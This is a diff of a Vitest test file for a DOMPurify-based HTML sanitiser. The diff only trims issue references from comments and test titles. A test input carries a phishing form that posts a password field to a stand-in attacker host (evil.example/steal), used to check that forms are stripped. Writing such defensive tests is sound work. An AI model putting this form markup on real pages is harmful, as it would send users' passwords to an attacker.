@@ -1,5 +1,5 @@
 // @vitest-environment jsdom
-// The one sanitising policy for platform HTML (issue 14 point 2, DESIGN 4), with the real DOMPurify.
+// The one sanitising policy for platform HTML (DESIGN 4), with the real DOMPurify.
 import { render, screen } from '@testing-library/react';
 import { describe, expect, it } from 'vitest';
 import { PlatformHtml } from '../../../src/ui/platform-html.tsx';
@@ -13,7 +13,7 @@ const clean = async (html: string): Promise<HTMLElement> => {
   return box;
 };
 
-describe('platform HTML cannot phish or take over the page (issue 14 point 2)', () => {
+describe('platform HTML cannot phish or take over the page', () => {
   it('drops forms and every form control, so nothing can post a password off-site', async () => {
     const box = await clean('<p>Win</p><form action="http://evil.example/steal"><input type="password" name="pw"><select><option>1</option></select><textarea></textarea><button formaction="http://evil.example">Go</button></form>');
     expect(box.querySelector('form, input, select, textarea, button, option')).toBeNull();
@@ -117,7 +117,7 @@ describe('style rewriting and the pictures kept', () => {
   });
 });
 
-describe('pictures in platform HTML and assistive technology (issue 15 point 3, axe image-alt)', () => {
+describe('pictures in platform HTML and assistive technology (axe image-alt)', () => {
   it('a picture without a text alternative is decoration; one with its author\'s alt keeps it', async () => {
     const { html } = await sanitise('<h2>Welcome</h2><p>Claim your bonus.</p><img src="/promo/1.png" width="300"><img alt="Bonus table" src="/promo/2.png">', policy);
     render(<PlatformHtml html={html} />);
